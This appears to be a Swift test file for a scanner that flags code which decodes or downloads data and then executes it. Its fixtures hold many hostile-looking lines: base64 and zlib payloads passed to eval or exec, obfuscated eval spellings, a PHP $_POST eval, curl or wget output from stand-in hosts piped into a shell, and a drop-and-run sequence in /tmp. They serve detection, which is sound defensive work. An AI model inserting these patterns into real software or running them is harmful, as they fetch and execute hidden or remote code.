import Testing

@testable import CustodyCore

struct DecodeAndExecuteDetectorTests {
    let detector = DecodeAndExecuteDetector()

    @Test(arguments: [
        ("setup.py", "exec(base64.b64decode('aW1wb3J0IG9z'))"),
        ("lib/loader.py", "exec(zlib.decompress(base64.b64decode(DATA)))"),
        ("index.js", "eval(atob('Y29uc29sZS5sb2coMSk='));"),
        ("index.js", "eval(Buffer.from(p, 'base64').toString());"),
        ("lib/x.ts", "new Function(atob(payload))();"),
        ("wp/x.php", "eval(gzinflate(base64_decode($z)));"),
        ("wp/x.php", "@assert(str_rot13(base64_decode($_POST['x'])));"),
        ("lib/x.rb", "eval(Base64.decode64(blob))"),
        ("cmd/x/main.go", "exec.Command(\"sh\", \"-c\", decodeB64(s)); b, _ := base64.StdEncoding.DecodeString(s)"),
        ("src/X.java", "Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(cmd)));"),
        ("build.sh", "echo aGVsbG8K | base64 -d | sh"),
        ("install.sh", "echo \"$P\" | base64 --decode | bash"),
        ("scripts/x.sh", "eval \"$(echo $blob | xxd -r -p)\""),
        // Adversarial spellings.
        ("index.js", "window['ev' + 'al'](atob(x));"),
        ("index.js", "this[\"\\x65val\"](atob(x));"),
        ("lib/x.py", "getattr(__builtins__, 'ex' 'ec')(base64.b64decode(x))"),
        ("wp/x.php", "$f = 'ev'.'al'; eval(base64_decode($x));"),
        ("lib/x.py", "exec(  base64 . b64decode ( x ))"),
    ])
    func decodeThenRun(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(DecodeAndExecuteDetector.decodeExec).first, "\(path): \(line)")
        #expect(finding.category == .decodeAndExecute)
        #expect(finding.severity >= .high)
        #expect(finding.explanation.hasPrefix("This line unpacks hidden data"))
    }

    @Test(arguments: [
        ("scripts/bootstrap.sh", "curl -fsSL http://203.0.113.9/i.sh | sh"),
        ("scripts/bootstrap.sh", "wget -qO- https://evil.example/x | sudo bash"),
        ("scripts/bootstrap.sh", "bash <(curl -s https://evil.example/x)"),
        ("scripts/bootstrap.sh", "eval \"$(curl -s https://evil.example/x)\""),
        ("lib/x.py", "exec(urllib.request.urlopen('http://x/y').read())"),
        ("lib/x.py", "exec(requests.get(URL).text)"),
        ("lib/x.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x/y')"),
    ])
    func downloadThenRun(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(!findings.with(DecodeAndExecuteDetector.downloadExec).isEmpty || !findings.with(DecodeAndExecuteDetector.decodeExec).isEmpty, "\(path): \(line)")
        #expect(findings.allSatisfy { $0.severity >= .medium })
    }

    /// A command that runs curl to save a file runs curl, not what curl fetched.
    @Test(arguments: [
        ("contrib/mirror.pl", "system(\"$curl $base/$file -o $dir/$file\");"),
        ("tools/fetch.py", "os.system('curl -sSfo deps.tar.gz ' + url)"),
        ("tools/fetch.rb", "system(\"wget -q -O vendor/x.tgz #{url}\")"),
        ("tools/verify.py", "os.system('curl -sSfo x.tgz ' + url + ' | sha256sum -c sums')"),
    ])
    func commandThatSavesADownloadIsNotRunningIt(_ path: String, _ line: String) {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(findings.with(DecodeAndExecuteDetector.downloadExec).allSatisfy { $0.severity <= .medium }, "\(path): \(findings.map(\.evidence))")
        #expect(findings.allSatisfy { !$0.evidence.contains("runs what it gets") }, "\(path): \(findings.map(\.evidence))")
        // Piped into a shell inside the command line, it is.
        let piped = DetectorFixtures.scan(detector, "lib/x.py", "os.system('curl -s https://evil.example/x | sh')")
        #expect(!piped.with(DecodeAndExecuteDetector.downloadExec).isEmpty)
    }

    @Test func decodeAndRunOnNearbyLines() throws {
        let py = """
            import base64, subprocess
            blob = base64.b64decode(DATA)
            code = blob.decode()
            exec(code)
            """
        let findings = DetectorFixtures.scan(detector, "pkg/__init__.py", py)
        let finding = try #require(findings.with(DecodeAndExecuteDetector.nearby).first)
        #expect(finding.startLine == 2)
        #expect(finding.endLine == 4)
        #expect(finding.severity == .high)
        let sh = """
            echo "$PAYLOAD" | base64 -d > /tmp/.x
            chmod +x /tmp/.x
            /tmp/.x &
            """
        #expect(!DetectorFixtures.scan(detector, "configure.sh", sh).with(DecodeAndExecuteDetector.nearby).isEmpty)
    }

    @Test(arguments: [
        ("README.md", "curl -fsSL https://sh.rustup.rs | sh"),
        ("docs/install.md", "    curl -fsSL https://get.example.com | bash"),
        ("lib/x.js", "const m = /abc/.exec(atob(s));"),
        ("lib/x.py", "pattern = re.compile(base64.b64decode(x))"),
        ("lib/x.py", "data = base64.b64decode(s)  # then parse it"),
        ("lib/x.js", "const json = JSON.parse(atob(token.split('.')[1]));"),
        ("src/x.c", "rc = my_eval(decode_base64(buf));"),
        ("scripts/x.sh", "# curl http://x | sh   (never do this)"),
        ("scripts/build.sh", "curl -fsSL -o out.tgz https://example.com/a.tgz && tar xf out.tgz"),
        ("src/x.go", "out, err := exec.Command(\"git\", \"log\").Output()"),
    ])
    func benignLookAlikesStayQuiet(_ path: String, _ line: String) {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(findings.isEmpty, "\(path): \(findings.map(\.evidence))")
    }

    @Test func testsAreLowerSeverity() throws {
        let findings = DetectorFixtures.scan(detector, "tests/test_loader.py", "exec(base64.b64decode(SAMPLE))")
        #expect(findings.with(DecodeAndExecuteDetector.decodeExec).first?.severity == .medium)
    }

    @Test func megabyteMinifiedLineCompletes() {
        _ = DetectorFixtures.scan(detector, "dist/app.js", bytes: DetectorFixtures.megabyteLine)
        _ = DetectorFixtures.scan(detector, "src/app.js", bytes: DetectorFixtures.megabyteLine)
    }
}
